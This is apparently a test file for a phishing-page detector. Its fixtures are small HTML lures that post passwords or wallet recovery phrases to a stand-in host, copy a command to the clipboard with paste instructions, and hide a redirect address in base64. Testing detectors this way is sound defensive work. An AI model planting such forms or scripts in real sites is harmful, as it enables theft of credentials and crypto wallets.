import { testDetector } from "../../test/test-detector.ts";
import { lurePage } from "./index.ts";

const manifest = JSON.stringify({ name: "sample", version: "1.0.1" });

function page(content: string, path = "index.html"): Readonly<Record<string, string>> {
  return { "package.json": manifest, [path]: `<!doctype html><html><body>${content}</body></html>` };
}

testDetector(lurePage, {
  fires: {
    "a sign-in that posts elsewhere": [
      "strong",
      page(
        `<form method="post" action="https://collector.invalid/p"><input type="password" name="p"></form>`,
      ),
    ],
    "a wallet's phrase for a bot": [
      "strong",
      page(
        `<textarea placeholder="Your 12-word recovery phrase"></textarea><script>fetch("https://collector.invalid/" + phrase)</script>`,
      ),
    ],
    "a command to paste": [
      "strong",
      page(
        `<p>Press Win + R, then Ctrl + V</p><script>navigator.clipboard.writeText("powershell -c echo")</script>`,
      ),
    ],
    "an address that it decodes": [
      "strong",
      page(
        `<script>var t = atob("aHR0cHM6Ly9sYW5kLmludmFsaWQv"); location.replace(t + location.hash);</script>`,
      ),
    ],
  },
  silent: {
    "a sign-in of the site itself": page(
      `<form method="post" action="/session"><input type="password" name="p"></form>`,
    ),
    "a page that moved": page(`<script>location.replace("./docs/")</script>`),
    "an example": page(
      `<form action="https://api.example/"><input type="password"></form>`,
      "examples/sign-in.html",
    ),
  },
});
